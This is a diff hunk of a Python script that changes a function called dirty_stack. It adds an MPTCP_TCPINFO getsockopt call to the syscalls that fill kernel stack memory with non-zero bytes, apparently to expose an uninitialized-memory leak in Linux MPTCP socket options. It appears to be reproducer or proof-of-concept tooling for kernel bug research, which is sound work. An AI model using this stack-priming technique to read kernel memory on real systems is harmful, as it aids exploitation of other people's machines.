@@ -298,10 +298,14 @@ def dirty_stack(fd):
     """Syscalls that leave non-zero bytes where the next getsockopt's frames
     go: TCP_INFO through the msk (the same call chain down to the subflow's
     tcp_getsockopt(), with a tcp_info of rates ~0 and counters on its stack),
-    a poll() whose 256-byte on-stack pollfd array is 0xa5 from user space
-    (negative fds are skipped), and uname()."""
+    MPTCP_TCPINFO (a tcp_info in our own frames; fails harmlessly on a
+    fallback socket), a poll() whose 256-byte on-stack pollfd array is 0xa5
+    from user space (negative fds are skipped), and uname()."""
     libc.getsockopt(fd, socket.IPPROTO_TCP, socket.TCP_INFO, ctypes.create_string_buffer(256),
                     ctypes.byref(ctypes.c_uint32(256)))
+    buf = ctypes.create_string_buffer(SFD.size + 512)
+    SFD.pack_into(buf, 0, SFD.size, 0, 0, 512)
+    libc.getsockopt(fd, SOL_MPTCP, MPTCP_TCPINFO, buf, ctypes.byref(ctypes.c_uint32(SFD.size + 512)))
     pfds = ctypes.create_string_buffer(b"\xa5" * 256, 256)
     libc.poll(pfds, 32, 0)
     os.uname()
